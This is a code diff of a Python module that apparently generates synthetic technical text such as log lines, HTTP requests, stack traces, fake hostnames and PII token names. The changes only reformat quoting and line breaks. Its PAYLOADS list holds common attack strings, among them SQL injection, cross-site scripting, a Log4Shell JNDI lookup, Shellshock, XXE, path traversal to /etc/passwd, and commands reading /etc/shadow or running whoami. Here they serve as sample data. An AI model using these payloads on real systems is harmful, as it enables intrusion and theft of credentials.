@@ -40,11 +40,11 @@ HEADINGS = (
 ).split("|")
 PAYLOADS = (
     "' OR 1=1-- -|<script>alert(document.cookie)</script>|${jndi:ldap://x.oast.fun/a}|{{7*7}}|"
-    "../../../../etc/passwd|() { :; }; /bin/bash -c 'id'|O:8:\"stdClass\":1:{s:1:\"a\";i:1;}|"
+    '../../../../etc/passwd|() { :; }; /bin/bash -c \'id\'|O:8:"stdClass":1:{s:1:"a";i:1;}|'
     "%27%20UNION%20SELECT%20NULL,user(),version()--|\\x90\\x90\\x31\\xc0\\x50\\x68|rO0ABXNyABdqYXZh|"
     "<img src=x onerror=alert(1)>|javascript:alert(1)|%253Cscript%253E|;cat /etc/shadow|| whoami|"
-    "admin'--|1 AND SLEEP(5)|\" onmouseover=prompt(1) x=\"|{\"$ne\": null}|(?:[A-Z][a-z]+)\\s+\\d{2,4}|"
-    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">|gopher://127.0.0.1:6379/_INFO|AAAA%n%n%n"
+    'admin\'--|1 AND SLEEP(5)|" onmouseover=prompt(1) x="|{"$ne": null}|(?:[A-Z][a-z]+)\\s+\\d{2,4}|'
+    '<!ENTITY xxe SYSTEM "file:///etc/passwd">|gopher://127.0.0.1:6379/_INFO|AAAA%n%n%n'
 ).split("|")
 TOKENS = (
     "PERSON EMAIL_ADDRESS PHONE_NUMBER ADDRESS LOCATION US_SSN IBAN_CODE CREDIT_CARD USERNAME "
@@ -59,8 +59,8 @@ LINES = (
     "GET {path}?id={number} HTTP/1.1\nHost: {host}\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; "
     "x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36\nReferer: https://{host}/"
     "|HTTP/1.1 200 OK\nServer: {product}\nContent-Type: application/json\nX-Request-Id: {uuid}|"
-    "Exception in thread \"main\" java.lang.{function}: {word}\n\tat {function}({word}.java:{number})|"
-    "Traceback (most recent call last):\n  File \"{path}\", line {number}, in {word}\n    return "
+    'Exception in thread "main" java.lang.{function}: {word}\n\tat {function}({word}.java:{number})|'
+    'Traceback (most recent call last):\n  File "{path}", line {number}, in {word}\n    return '
     "self.{word}.{word}({word})|def {word}_{word}(self, {word}, {word}=None):\n    return {word}|"
     "SELECT {word}, {word} FROM {word}s WHERE {word}_id={number} UNION SELECT NULL,{word}|"
     "CREATE TABLE {word}s (id INT, first_name VARCHAR(40), last_name VARCHAR(40), email TEXT);|"
@@ -124,8 +124,12 @@ class Technical:
         return ".".join(str(self.rng.randint(0, 30)) for _ in range(3))
 
     def host(self) -> str:
-        first = self.rng.choice("db web api mail jira gitlab stage prod vpn ad sso cdn shop".split())
-        tail = self.rng.choice(("example.com", "corp.local", "acme.example", "internal", "shop.test"))
+        first = self.rng.choice(
+            "db web api mail jira gitlab stage prod vpn ad sso cdn shop".split()
+        )
+        tail = self.rng.choice(
+            ("example.com", "corp.local", "acme.example", "internal", "shop.test")
+        )
         return first + self.rng.choice(("", "01", "-2", "-eu")) + "." + tail
 
     def path(self) -> str:
